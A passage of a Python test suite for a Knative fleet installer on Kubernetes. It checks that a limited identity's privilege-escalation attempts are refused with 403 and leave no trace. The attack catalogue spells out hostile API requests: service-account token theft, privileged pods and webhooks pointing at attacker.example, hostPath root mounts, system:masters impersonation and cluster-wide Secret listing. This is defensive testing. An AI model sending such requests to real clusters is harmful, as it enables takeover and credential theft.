    core_role = live(admin, f"/apis/{RBAC}/v1/clusterroles/{KNATIVE_ROLE}")
    privileged = {"serviceAccountName": "controller", "containers": [{
        "name": "controller", "image": "attacker.example/root:1",
        "securityContext": {"privileged": True, "allowPrivilegeEscalation": True}}]}
    token_secret = {"apiVersion": "v1", "kind": "Secret", "type":
                    "kubernetes.io/service-account-token",
                    "metadata": {"name": "controller-token", "namespace": KS,
                                 "annotations": {"kubernetes.io/service-account.name":
                                                 "controller"}}}
    return {
        # Tokens and Secrets.
        "a token Secret for Knative's controller": (
            "POST", f"{CORE}/secrets", token_secret, "", {}),
        "a token Secret for Knative's controller (apply)": (
            "PATCH", f"{CORE}/secrets/controller-token", token_secret, "apply", {}),
        "a token Secret under a release Secret's name in another release namespace": (
            "PATCH", f"/api/v1/namespaces/{KE}/secrets/webhook-certs",
            {**token_secret, "metadata": {**token_secret["metadata"], "namespace": KE,
                                          "name": "webhook-certs"}}, "apply", {}),
        "a TokenRequest for Knative's controller": (
            "POST", f"{CORE}/serviceaccounts/controller/token",
            {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest",
             "spec": {"audiences": []}}, "", {}),
        "write its own certificate into Knative's webhook Secret": (
            "PATCH", f"{CORE}/secrets/webhook-certs",
            {"data": {"server-key.pem": base64.b64encode(b"attacker").decode()}}, "merge", {}),
        # Workloads.
        "a new Deployment in a release namespace": (
            "POST", APPS, deployment("fleet-miner", privileged), "", {}),
        "a privileged Deployment under the release's name, as controller": (
            "PATCH", f"{APPS}/controller", deployment("controller", privileged), "apply", {}),
        "another image on the release's controller": (
            "PATCH", f"{APPS}/controller", {"spec": {"template": {"spec": {"containers": [
                {"name": "controller", "image": "attacker.example/controller:1"}]}}}},
            "merge", {}),
        "another service account on the release's webhook": (
            "PATCH", f"{APPS}/webhook", {"spec": {"template": {"spec": {
                "serviceAccountName": "default"}}}}, "merge", {}),
        "a hostPath volume on the release's activator": (
            "PATCH", f"{APPS}/activator", {"spec": {"template": {"spec": {"volumes": [
                {"name": "host", "hostPath": {"path": "/"}}]}}}}, "merge", {}),
        "host networking on the release's autoscaler": (
            "PATCH", f"{APPS}/autoscaler", {"spec": {"template": {"spec": {
                "hostNetwork": True}}}}, "merge", {}),
        "a Job in a release namespace": (
            "POST", f"/apis/batch/v1/namespaces/{KS}/jobs", {
                "apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "fleet-job"},
                "spec": {"template": {"spec": {**privileged, "restartPolicy": "Never"}}}},
            "", {}),
        "a Pod in a release namespace": (
            "POST", f"{CORE}/pods", {"apiVersion": "v1", "kind": "Pod",
                                     "metadata": {"name": "fleet-pod"}, "spec": privileged},
            "", {}),
        "another queue-sidecar-image (injected into every Knative pod)": (
            "PATCH", f"{CORE}/configmaps/config-deployment",
            {"data": {"queue-sidecar-image": "attacker.example/queue:1"}}, "merge", {}),
        "a ConfigMap key the plan does not hold": (
            "PATCH", f"{CORE}/configmaps/config-features",
            {"data": {"kubernetes.podspec-hostpath": "enabled"}}, "merge", {}),
        # Services and endpoints that redirect Knative's webhook.
        "Knative's webhook Service selecting other pods": (
            "PATCH", f"{CORE}/services/webhook", {"spec": {"selector": {"app": "activator"}}},
            "merge", {}),
        "externalIPs on Knative's webhook Service": (
            "PATCH", f"{CORE}/services/webhook", {"spec": {"externalIPs": ["203.0.113.7"]}},
            "merge", {}),
        "an EndpointSlice for Knative's webhook": (
            "POST", f"/apis/discovery.k8s.io/v1/namespaces/{KS}/endpointslices", {
                "apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice",
                "metadata": {"name": "webhook-redirect",
                             "labels": {"kubernetes.io/service-name": "webhook"}},
                "addressType": "IPv4", "endpoints": [{"addresses": ["203.0.113.7"]}],
                "ports": [{"port": 8443}]}, "", {}),
        # Webhook configurations and CRDs.
        "a new MutatingWebhookConfiguration": (
            "POST", f"{ADMISSION}/mutatingwebhookconfigurations",
            {**webhook_to(url="https://attacker.example/mutate"),
             "metadata": {"name": "fleet-mutates-everything"}}, "", {}),
        "Knative's mutating webhook pointed at a URL": (
            "PATCH", f"{ADMISSION}/mutatingwebhookconfigurations/webhook.serving.knative.dev",
            {"webhooks": webhook_to(url="https://attacker.example/mutate")["webhooks"]},
            "merge", {}),
        "Knative's mutating webhook pointed at another Service": (
            "PATCH", f"{ADMISSION}/mutatingwebhookconfigurations/webhook.serving.knative.dev",
            webhook_to({"name": "activator-service", "namespace": KS}), "apply", {}),
        "a conversion webhook on a Knative CRD": (
            "PATCH", f"{CRDS}/services.serving.knative.dev", {"spec": {"conversion": {
                "strategy": "Webhook", "webhook": {
                    "conversionReviewVersions": ["v1"],
                    "clientConfig": {"url": "https://attacker.example/convert"}}}}},
            "merge", {}),
        "a conversion webhook on a CRD not the release's": (
            "PATCH", f"{CRDS}/widgets.attacker.example", {"spec": {"conversion": {
                "strategy": "None"}}}, "merge", {}),
        # Labels, owners and RBAC.
        "aggregate-to-view on a Knative role (every viewer gets Knative's rights)": (
            "PATCH", f"/apis/{RBAC}/v1/clusterroles/{KNATIVE_ROLE}", cluster_role(
                KNATIVE_ROLE, core_role["rules"]) | {"metadata": {
                    "name": KNATIVE_ROLE,
                    "labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}}},
            "apply", {}),
        "a new role aggregated into Knative's admin role": (
            "POST", f"/apis/{RBAC}/v1/clusterroles",
            cluster_role("fleet-aggregated", STAR) | {"metadata": {
                "name": "fleet-aggregated", "labels": {"serving.knative.dev/controller": "true"}}},
            "", {}),
        "a label on a release namespace": (
            "PATCH", f"/api/v1/namespaces/{KS}", {"metadata": {"labels": {
                "pod-security.kubernetes.io/enforce": "privileged"}}}, "merge", {}),
        "an owner reference on a release object": (
            "PATCH", f"{CORE}/configmaps/config-features", {"metadata": {"ownerReferences": [{
                "apiVersion": "v1", "kind": "Namespace", "name": "kube-system",
                "uid": "00000000-0000-0000-0000-000000000000"}]}}, "merge", {}),
        "a second policy binding that lifts the policy": (
            "POST", f"{ADMISSION}/validatingadmissionpolicybindings", {
                "apiVersion": "admissionregistration.k8s.io/v1",
                "kind": "ValidatingAdmissionPolicyBinding",
                "metadata": {"name": "fleet-audit-only"},
                "spec": {"policyName": ROLE, "validationActions": ["Audit"]}}, "", {}),
        "the policy made to warn only": (
            "PATCH", f"{ADMISSION}/validatingadmissionpolicybindings/{ROLE}",
            {"spec": {"validationActions": ["Warn"]}}, "merge", {}),
        "a Lease in kube-system by another name": (
            "POST", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases", {
                "apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
                "metadata": {"name": "kube-controller-manager-x"}}, "", {}),
        # What the policy lets through on purpose, tried where it must not hold: the hold's
        # Lease (a POST, which RBAC cannot name) and the owner record's free annotations.
        "the hold's Lease name in a release namespace": (
            "POST", f"/apis/coordination.k8s.io/v1/namespaces/{KS}/leases", {
                "apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
                "metadata": {"name": "knative-fleet-hold"}}, "", {}),
        "the owner record's annotation on an object that is not an anchor": (
            "PATCH", f"{CORE}/configmaps/config-features", {"metadata": {"annotations": {
                "knative-fleet.dev/owner-id": "kf-attacker"}}}, "merge", {}),
        "delete a kube-system ConfigMap": (
            "DELETE", "/api/v1/namespaces/kube-system/configmaps/extension-apiserver-"
                      "authentication", None, "", {}),
        "impersonate system:masters": (
            "GET", "/api/v1/namespaces/kube-system/secrets", None, "",
            {"Impersonate-User": "admin", "Impersonate-Group": "system:masters"}),
        "a CertificateSigningRequest for system:masters": (
            "POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", {
                "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
                "metadata": {"name": "fleet-admin"},
                "spec": {"request": base64.b64encode(b"not a csr").decode(),
                         "signerName": "kubernetes.io/kube-apiserver-client",
                         "usages": ["client auth"]}}, "", {}),
        "exec into a Knative pod": (
            "POST", f"{CORE}/pods/controller-0/exec?command=sh", None, "", {}),
        # Secret reads: only in the install namespaces, through the plan's bindings.
        "read its own token Secret in kube-system": (
            "GET", f"/api/v1/namespaces/kube-system/secrets/{ACCOUNT}-token", None, "", {}),
        "list every namespace's Secrets": ("GET", "/api/v1/secrets", None, "", {}),
        "Secret reads bound in kube-system": (
            "PATCH", f"/apis/{RBAC}/v1/namespaces/kube-system/rolebindings/{READS}",
            reads_binding("kube-system", ME), "apply", {}),
        "Secret reads in a release namespace bound to every user": (
            "PATCH", f"/apis/{RBAC}/v1/namespaces/{KS}/rolebindings/{READS}",
            {**reads_binding(KS, ME), "subjects": [ME, {
                "kind": "Group", "name": "system:authenticated", "apiGroup": RBAC}]},
            "apply", {}),
        "Secret reads as a role in kube-system": (
            "PATCH", f"/apis/{RBAC}/v1/namespaces/kube-system/roles/{READS}",
            reads_role("kube-system"), "apply", {}),
        "the Secret reads role in a release namespace made to read everything": (
            "PATCH", f"/apis/{RBAC}/v1/namespaces/{KS}/roles/{READS}",
            {**reads_role(KS), "rules": STAR}, "apply", {}),
    }


def target(method: str, path: str, body: dict | None) -> str:
    """The object a write aims at ("" for a read, a subresource or a non-object)."""
    if method == "GET" or "/exec" in path or path.endswith("/token"):
        return ""
    if method == "POST":
        return f"{path}/{body['metadata']['name']}" if body else ""
    return path


def stored(admin: client.ApiClient, path: str) -> tuple[int, str]:
    """(status, resourceVersion) of the object a path names, read as admin."""
    status, text = attempt(admin, "GET", path.split("?", 1)[0])
    if status != 200:
        return status, ""
    body = json.loads(text)
    return status, body.get("metadata", {}).get("resourceVersion", "")


ADMIN_RIGHTS = [("*", "*", ""), ("create", "pods", KS), ("create", "secrets", "kube-system"),
                ("list", "secrets", ""), ("get", "secrets", "kube-system"),
                ("get", "secrets", "default"),
                ("create", "serviceaccounts/token", KS),
                ("impersonate", "users", ""), ("escalate", "clusterroles", ""),
                ("create", "validatingadmissionpolicybindings", "")]


def test_every_path_to_more_rights_is_refused_and_nothing_is_stored(world: dict) -> None:
    """As the identity with the printed role and policy, on a spoke it installed: each
    attempt is refused (RBAC's or the policy's 403), the object it aimed at is as it was
    (read as admin: same resourceVersion, or still absent), no object appeared anywhere,
    and `kubectl auth can-i '*' '*'` (and each right on the way there) says no before and
    after."""
    stack: FleetStack = world["stack"]
    stack.configure(limited_fleet())
    res = stack.up()
    assert res.ok, res.why
    me, admin = limited_api(world), world["s1"].api()
    groups = {"validatingadmissionpolicybindings": "admissionregistration.k8s.io",
              "clusterroles": RBAC}
    for verb, resource, namespace in ADMIN_RIGHTS:
        assert not can_i(me, verb, resource, namespace,
                         groups.get(resource, "*" if resource == "*" else "")), \
            (verb, resource, namespace)
    tried = attacks(world)
    targets = {what: target(method, path, body)
               for what, (method, path, body, *_) in tried.items() if target(method, path, body)}
    before_objects = snapshot(admin)
    before = {what: stored(admin, path) for what, path in targets.items()}
    results = {what: send(me, method, path, body, patch=patch, headers=headers)
               for what, (method, path, body, patch, headers) in tried.items()}
    for what, (status, text) in results.items():
        print(f"{what}: {status} {json.loads(text).get('message', '')[:200]}")
    accepted = {what: status for what, (status, _) in results.items() if status < 300}
    assert accepted == {}, accepted
    assert {what: status for what, (status, _) in results.items() if status != 403} == {}
    after = {what: stored(admin, path) for what, path in targets.items()}
    assert after == before
    assert snapshot(admin) == before_objects
    for verb, resource, namespace in ADMIN_RIGHTS:
        assert not can_i(me, verb, resource, namespace,
                         groups.get(resource, "*" if resource == "*" else ""))


def test_a_refusal_says_which_fields_are_not_the_plans(world: dict) -> None:
    """The policy's message names the object and what in it the plan does not hold."""
    me = limited_api(world)
    status, text = send(me, "PATCH", f"{CORE}/configmaps/config-deployment",
                        {"data": {"queue-sidecar-image": "attacker.example/queue:1"}},
                        patch="merge")
    assert status == 403
    message = json.loads(text)["message"]
    assert f"ValidatingAdmissionPolicy '{ROLE}'" in message, message
    assert "update /configmaps knative-serving/config-deployment" in message, message
    assert "values the plan does not hold for: queue-sidecar-image" in message, message
    status, text = send(me, "PATCH", f"{APPS}/controller", {"spec": {"template": {"spec": {
        "containers": [{"name": "controller", "image": "attacker.example/c:1"}]}}}},
        patch="merge")
    assert status == 403 and "containers whose image" in text and ": controller" in text, text


def test_the_secret_reads_binding_deleted_cannot_be_made_again_as_anything_else(
        world: dict) -> None:
    """The identity may delete the plan's objects (an uninstall does), the Secret-reads
    binding among them; it may `bind` the release's ClusterRoles and its reads Role, and
    create a binding of the reads' name anywhere. Made again after its delete by
    server-side apply (a create by name, which RBAC admits: no earlier value for the
    policy to keep), the binding is refused as anything but the plan's: another role the
    identity may bind, another subject. A POST names nothing, so RBAC refuses it first.
    The plan's own is admitted, which puts it back."""
    me, admin = limited_api(world), world["s1"].api()
    path = f"/apis/{RBAC}/v1/namespaces/{KS}/rolebindings/{READS}"
    bindings = f"/apis/{RBAC}/v1/namespaces/{KS}/rolebindings"
    release_role = live(admin, f"/apis/{RBAC}/v1/clusterrolebindings/{KNATIVE_BINDING}")[
        "roleRef"]["name"]
    assert can_i(me, "bind", "clusterroles", "", RBAC) is False  # only by name
    status, text = send(me, "DELETE", path)
    assert status == 200, text
    try:
        attempts = {
            "the release's ClusterRole, bound to itself": {
                **reads_binding(KS, ME),
                "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": release_role}},
            "the reads Role, bound to every user": {
                **reads_binding(KS, ME), "subjects": [{
                    "kind": "Group", "name": "system:authenticated", "apiGroup": RBAC}]},
            "the reads Role, bound to Knative's controller": {
                **reads_binding(KS, ME), "subjects": [{
                    "kind": "ServiceAccount", "name": "controller", "namespace": KS}]},
        }
        for what, body in attempts.items():
            status, text = send(me, "POST", bindings, body)
            assert status == 403 and "ValidatingAdmissionPolicy" not in text, (what, text)
            status, text = send(me, "PATCH", path, body, patch="apply")
            print(f"{what}: {status} {json.loads(text).get('message', '')[:200]}")
            assert status == 403, (what, status, text)
            assert f"ValidatingAdmissionPolicy '{ROLE}'" in text, (what, text)
            assert stored(admin, path)[0] == 404, what
    finally:
        # The plan's binding, by the identity, as the next `up` makes it.
        status, text = send(me, "PATCH", path, reads_binding(KS, ME), patch="apply")
        assert status in (200, 201), text
    assert live(admin, path)["subjects"] == [ME]
    assert wait_for(lambda: attempt(me, "GET", f"/api/v1/namespaces/{KS}/secrets")[0] == 200,
                    30, what="the identity's Secret reads back")
